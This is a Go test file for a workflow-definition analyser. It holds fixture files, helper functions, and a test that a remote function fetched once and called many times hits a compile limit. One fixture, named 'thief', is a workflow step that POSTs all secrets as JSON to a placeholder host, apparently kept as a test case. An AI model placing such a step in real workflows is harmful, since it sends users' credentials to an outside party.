package sw10

import (
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/lockstep-workflows/lockstep/internal/dialect"
)

// complete makes a definition of an excerpt: a list of tasks, or a part of the top level. What the
// excerpt lacks follows it, so that its lines keep their numbers.
func complete(excerpt string) string {
	if strings.HasPrefix(excerpt, "- document") {
		return excerpt // meant as a whole
	}
	if strings.HasPrefix(excerpt, "- ") {
		excerpt = "do:\n" + excerpt
	}
	for _, part := range []struct{ key, text string }{
		{"do", "do:\n- only: {set: {x: 1}}\n"},
		{"document", "document: {dsl: 1.0.3, namespace: test, name: example, version: 1.0.0}\n"},
	} {
		if !regexp.MustCompile(`(?m)^"?` + part.key + `"?:`).MatchString(excerpt) {
			excerpt = strings.TrimSuffix(excerpt, "\n") + "\n" + part.text
		}
	}
	return excerpt
}

var exampleFiles = published{
	"order.schema.json":  []byte(`{"type": "object", "required": ["id"]}`),
	"broken.schema.json": []byte(`{"type": "objekt"}`),
	"broken.yaml":        []byte(`{`),
	"https://example.com/catalog/functions/log/1.0.0/function.yaml": []byte(`set: {logged: "${ .message }"}`),
	"https://example.com/functions/log/1.0.0/function.yaml":         []byte(`set: {logged: "${ .message }"}`),
	"https://example.com/functions/log/function.yaml":               []byte(`set: {logged: "${ .message }"}`),
	"https://example.com/functions/broken/function.yaml":            []byte(`set: {logged: "${ $item }"}`),
	"https://example.com/functions/thief/function.yaml":             []byte(`do: [{a: {call: http, with: {method: post, endpoint: https://example.com, body: "${ $secrets | tojson }"}}}]`),
	"https://example.com/functions/nested/function.yaml":            []byte(`call: https://example.com/functions/log/function.yaml`),
}

// published is a bundle with addresses.
type published map[string][]byte

func (b published) Open(ref string) ([]byte, error) {
	if text, ok := b[ref]; ok {
		return text, nil
	}
	return dialect.MapBundle(b).Open(ref)
}

// read returns the model of a document and everything that was reported.
func read(t testing.TB, source string, opts ...dialect.Options) (*definition, dialect.Diagnostics) {
	t.Helper()
	doc, found := dialect.Read("f", []byte(source))
	if doc.Root == nil {
		t.Fatal(found)
	}
	src := dialect.Source{Document: doc, Bundle: exampleFiles}
	if len(opts) > 0 {
		src.Options = opts[0]
	}
	d, r := analyse(src)
	if !r.HasErrors() {
		compile(d, r, src)
	}
	return d, append(found, r.Diagnostics()...)
}

// valid returns the model of a document without errors.
func valid(t testing.TB, source string) *definition {
	t.Helper()
	d, found := read(t, complete(source))
	if found.HasErrors() {
		t.Fatalf("%v\n%s", found, source)
	}
	return d
}

// TestFetchedFunctionsAreBounded: a function that is fetched once and called often is not compiled as often
// as anyone likes.
func TestFetchedFunctionsAreBounded(t *testing.T) {
	const address = "https://example.com/large/function.yaml"
	large := published{address: []byte("set: {a: " + strings.Repeat("x", 1<<20) + "}")}
	for _, calls := range []int{3, 4, 40} {
		text := ""
		for i := range calls {
			text += fmt.Sprintf("- a%d: {call: %s}\n", i, address)
		}
		doc, _ := dialect.Read("test.yaml", []byte(complete(text)))
		_, r := analyse(dialect.Source{Document: doc, Bundle: large})
		var errs []string
		for _, d := range r.Diagnostics() {
			errs = append(errs, d.Message)
		}
		if over := len(errs) == 1 && strings.Contains(errs[0], "limit definition-functions"); over != (calls > 3) || !over && len(errs) > 0 {
			t.Errorf("%d calls: %.200q", calls, errs)
		}
	}
}
